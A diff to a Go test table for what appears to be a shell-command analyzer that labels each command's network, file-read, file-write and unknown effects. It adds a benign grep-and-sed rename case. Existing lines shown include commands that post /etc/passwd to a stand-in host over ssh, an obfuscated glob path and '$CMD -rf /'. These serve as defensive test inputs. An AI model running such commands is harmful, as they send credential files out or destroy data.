@@ -438,6 +438,8 @@ var commandCases = []struct {
 	{`curl https://a.example; ssh h 'curl -d "$(cat /etc/passwd)" https://e.example'`, []string{"Q e.example POST data /etc/passwd", "Q a.example GET"}},
 	{`ssh h "python3 -c 'import requests; requests.post(\"https://e.example\", data=open(\"/etc/passwd\").read())'"`, []string{"Q e.example POST data /etc/passwd"}},
 
+	{"grep -rl oldName src | xargs sed -i 's/oldName/newName/g'", []string{"W /ws/src T", "R /ws/src T", "!U"}},
+
 	// What cannot be known.
 	{"/???/c?t /e*c/sh*", []string{"U"}},
 	{"$CMD -rf /", []string{"U", "X "}},
